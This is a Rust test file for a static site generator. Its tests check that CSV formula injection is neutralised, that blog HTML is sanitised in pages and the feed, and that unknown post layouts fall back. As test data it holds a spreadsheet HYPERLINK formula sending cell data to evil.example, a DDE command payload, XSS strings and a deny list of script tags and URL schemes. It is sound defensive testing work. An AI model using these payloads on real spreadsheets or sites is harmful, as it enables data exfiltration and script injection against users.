//! What the site publishes from text it does not control: vehicle names in `sessions.csv`
//! (spreadsheet formulas), blog Markdown and HTML in pages and `feed.xml` (scripts, handlers,
//! `javascript:` links), and a post's `layout` (which used to fail the whole build).

use std::fs;
use std::path::{Path, PathBuf};

use crate::common::{Demo, cph50};

fn repo(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(rel)
}

fn build(demo: &Demo, blog: &Path) -> assert_cmd::assert::Assert {
    cph50(demo.root())
        .args(["build", "--out", "site", "--templates"])
        .arg(repo("templates"))
        .arg("--blog")
        .arg(blog)
        .assert()
}

fn read(demo: &Demo, rel: &str) -> String {
    fs::read_to_string(demo.root().join("site").join(rel)).unwrap()
}

// case csv_formula_injection (found failing in the field)
#[test]
fn csv_cells_that_spreadsheets_would_run_are_neutralised() {
    let demo = Demo::new(1);
    let config = demo.data().join("vehicle_config.json");
    demo.edit(
        &config,
        "\"Serenity\"",
        r#""=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")""#,
    );
    demo.edit(&config, "\"Freya\"", r#""@SUM(1+1)*cmd|' /C calc'!A0""#);
    build(&demo, &repo("blog")).success();
    let csv = read(&demo, "data/sessions.csv");
    let rows: Vec<&str> = csv.split_terminator("\r\n").collect();
    assert!(rows.len() > 2, "{csv}");
    let equinox = rows
        .iter()
        .find(|r| r.contains("serenity_equinox_2024"))
        .unwrap();
    assert!(
        equinox.contains(
            r#",serenity_equinox_2024,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")","#
        ),
        "{equinox}"
    );
    let xc40 = rows.iter().find(|r| r.contains("volvo_xc40_2021")).unwrap();
    assert!(
        xc40.contains(",volvo_xc40_2021,'@SUM(1+1)*cmd|' /C calc'!A0,"),
        "{xc40}"
    );
    // every text cell that starts like a formula carries the quote; numbers are numbers
    for row in &rows[1..] {
        for cell in row.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{row}");
            if cell.starts_with('-') {
                assert!(cell.parse::<f64>().is_ok(), "{row}");
            }
        }
    }
    // the JSON export keeps the names as they are: JSON is not run by spreadsheets
    assert!(read(&demo, "api/v1/sessions.json").contains(r#""vehicle_name":"=HYPERLINK("#));
}

#[test]
fn ordinary_names_leave_the_csv_as_it_was() {
    // the committed site was built from the committed data: its CSV must not change
    let demo = tempfile::tempdir().unwrap();
    cph50(demo.path())
        .args(["--data"])
        .arg(repo("data"))
        .args(["build", "--out", "site", "--templates"])
        .arg(repo("templates"))
        .arg("--blog")
        .arg(repo("blog"))
        .assert()
        .success();
    let built = fs::read(demo.path().join("site/data/sessions.csv")).unwrap();
    assert!(built == fs::read(repo("site/data/sessions.csv")).unwrap());
}

/// The HTML an Atom `type="html"` element holds: its text, unescaped once, as a reader does.
fn feed_html(feed: &str, element: &str) -> String {
    let open = format!("<{element} type=\"html\"");
    let start = feed.find(&open).unwrap();
    let body = &feed[start..];
    let body = &body[body.find('>').unwrap() + 1..body.find(&format!("</{element}>")).unwrap()];
    body.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#x27;", "'")
        .replace("&#x2F;", "/")
        .replace("&amp;", "&")
}

/// Every tag (`<...>`) of `html`, lower-cased; text between tags is not looked at.
fn tags(html: &str) -> Vec<String> {
    html.split('<')
        .skip(1)
        .map(|t| t.split('>').next().unwrap_or("").to_lowercase())
        .collect()
}

// case blog_unsanitized_html (found failing in the field)
#[test]
fn blog_html_is_sanitised_in_pages_and_feed() {
    let demo = Demo::new(1);
    build(&demo, &repo("tests/fixtures/blog_evil")).success();
    // Jekyll's `:categories`: lower-cased, `..` removed (its `sanitize_url`)
    let page = read(&demo, "blog/cat&dog/2026/02/01/evil.html");
    let feed = read(&demo, "feed.xml");
    let article = page.split("<article>").nth(1).unwrap();
    let article = article.split("</article>").next().unwrap();
    let parts = [
        ("page", article.to_owned()),
        ("feed content", feed_html(&feed, "content")),
        ("feed summary", feed_html(&feed, "summary")),
    ];
    for (name, html) in &parts {
        for tag in tags(html) {
            let element = tag.split_whitespace().next().unwrap_or("");
            let handler = tag.split(" on").skip(1).any(|rest| {
                rest.split('=')
                    .next()
                    .is_some_and(|a| a.chars().all(|c| c.is_ascii_alphabetic()))
            });
            assert!(
                !["script", "iframe", "object", "embed", "style"].contains(&element) && !handler,
                "{name}: <{tag}>:\n{html}"
            );
            for bad in ["=\"javascript:", "=\"vbscript:", "=\"data:"] {
                assert!(!tag.contains(bad), "{name}: <{tag}> has {bad:?}:\n{html}");
            }
        }
    }
    // links lose their script URL, raw HTML its handlers; the words stay, as text
    let (_, content) = &parts[1];
    assert!(
        content.contains("Hello <a>click me</a> and <a>case</a>"),
        "{content}"
    );
    assert!(content.contains("<img src=\"x\">"), "{content}");
    assert!(content.contains("<p><a>raw a</a></p>"), "{content}");
    assert!(!content.contains("alert('raw-script')"), "{content}");
    // a title in the feed is jekyll-feed's: its tags and script removed, the rest escaped
    assert!(
        feed.contains("<title type=\"html\">&amp;amp; T</title>"),
        "{feed}"
    );
    assert!(page.contains("<h1>&lt;&#x2F;script&gt;&lt;script&gt;alert(&#x27;title&#x27;)"));
}

#[test]
fn the_bundled_posts_lose_nothing_to_the_sanitiser() {
    // The allow-list covers what the posts use (tables, task lists, footnotes, code classes,
    // heading ids): sanitising changes only how void tags are written (`<input>` for
    // `<input/>`), never what a reader sees.
    for e in fs::read_dir(repo("blog/_posts")).unwrap() {
        let text = fs::read_to_string(e.unwrap().path()).unwrap();
        let (_, body) = cph50::render::blog::front_matter::split(&text).unwrap();
        let raw = cph50::render::blog::markdown(body);
        assert_eq!(cph50::render::sanitize::clean(&raw), raw.replace("/>", ">"));
    }
}

// case layout_breaks_build (found failing in the field)
#[test]
fn an_unknown_post_layout_falls_back_with_a_warning() {
    let demo = Demo::new(1);
    let blog = repo("tests/fixtures/blog_layout");
    let out = build(&demo, &blog).success().get_output().stderr.clone();
    let err = String::from_utf8_lossy(&out);
    let warnings: Vec<&str> = err.lines().filter(|l| l.contains("WARN")).collect();
    assert_eq!(warnings.len(), 1, "{err}");
    assert!(
        warnings[0].ends_with(
            "blog_layout/_posts/2026-02-04-layout.md: layout \"index\" is not a post layout; rendered with post.html"
        ),
        "{err}"
    );
    let page = read(&demo, "blog/2026/02/04/layout.html");
    assert!(page.contains("<p>layout body</p>"), "{page}");
    assert!(page.contains("<h1>Layout trick</h1>"), "{page}");
    // `layout: post` (the fixture blog) warns about nothing
    let out = build(&demo, &repo("tests/fixtures/blog_ok"))
        .success()
        .get_output()
        .stderr
        .clone();
    assert!(!String::from_utf8_lossy(&out).contains("WARN"));
}
